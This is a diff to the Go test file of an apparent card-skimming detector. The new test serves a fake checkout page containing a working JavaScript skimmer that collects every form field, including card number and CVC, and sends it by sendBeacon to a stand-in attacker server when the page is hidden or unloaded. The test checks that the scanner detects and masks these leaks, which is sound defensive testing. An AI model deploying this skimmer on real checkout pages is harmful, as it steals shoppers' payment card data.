@@ -11,6 +11,7 @@ import (
 	"time"
 
 	skimguard "github.com/skimguard/skimguard"
+	"github.com/skimguard/skimguard/carddata"
 )
 
 // visitLogJS records what a page can tell of its visitor's hands, in times
@@ -160,9 +161,9 @@ func TestShopperLikeVisit(t *testing.T) {
 			if l.Caps == 0 || l.ShiftedCaps != l.Caps || l.Shifts < l.Caps {
 				t.Errorf("%d capitals, %d with Shift held, %d Shift presses", l.Caps, l.ShiftedCaps, l.Shifts)
 			}
-			// Inside the window: typing ends a tail before it does.
-			tail := min(max(wait/4, minTailAfterType), maxTailAfterType)
-			if limit := int((wait - tail + time.Second).Milliseconds()); lastKey > limit {
+			// Inside the window: typing is paced to end a tail before it
+			// does; a busy machine may eat into the tail, not past it.
+			if limit := int(wait.Milliseconds()); lastKey > limit {
 				t.Errorf("last key at %d ms after load: want it by %d", lastKey, limit)
 			}
 			for _, p := range []string{"/clicked", "/order"} {
@@ -209,5 +210,53 @@ func TestPaceFitsTheTime(t *testing.T) {
 	// A long window does not make the shopper slow.
 	if step, key, _ := pace(time.Minute, 38, 6); step != maxStepGap || key != maxKeyGap {
 		t.Errorf("pace(1m) = %v, %v", step, key)
+	}
+}
+
+// TestDepartureBeaconsAreSearched: at the end of the window the shopper
+// leaves; the page sees visibilitychange to hidden and pagehide, and the
+// card it sends with sendBeacon then reaches the attacker and is found in
+// the observation, masked.
+func TestDepartureBeaconsAreSearched(t *testing.T) {
+	c := needBrowser(t)
+	var h hits
+	evil := http.NewServeMux()
+	evil.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		h.add(r.URL.Path, string(b))
+	})
+	evilSrv := serveOn(t, "127.0.0.2", evil)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
+		html(w, `<!doctype html><html><body><form><input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form>
+<script>
+function grab() { var d = {}; document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; }); return JSON.stringify(d); }
+document.addEventListener('visibilitychange', function () { if (document.visibilityState === 'hidden') navigator.sendBeacon('`+evilSrv.URL+`/hidden', grab()); });
+addEventListener('pagehide', function () { navigator.sendBeacon('`+evilSrv.URL+`/pagehide', grab()); });
+</script></body></html>`)
+	})
+	srv := serveOn(t, "127.0.0.1", mux)
+	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true, Wait: 2 * time.Second})
+	time.Sleep(300 * time.Millisecond)
+	number := carddata.Test().Number
+	for _, p := range []string{"/hidden", "/pagehide"} {
+		if v := h.values(p); len(v) == 0 || !strings.Contains(v[0], number) {
+			t.Errorf("%s: the attacker received %q: want the card sent on the way out", p, v)
+		}
+	}
+	var pings int
+	for _, l := range obs.Leaks {
+		if l.Origin == evilSrv.URL && l.Type == "Ping" {
+			pings++
+		}
+	}
+	if pings < 2 {
+		t.Errorf("%d leaks by beacon to %s, want both exit beacons: %+v", pings, evilSrv.URL, obs.Leaks)
+	}
+	if data, _ := json.Marshal(obs); strings.Contains(string(data), number) {
+		t.Error("the observation holds the unmasked card number")
+	}
+	if obs.FinalURL != srv.URL+"/checkout" {
+		t.Errorf("final URL %q: leaving must not change the page observed", obs.FinalURL)
 	}
 }
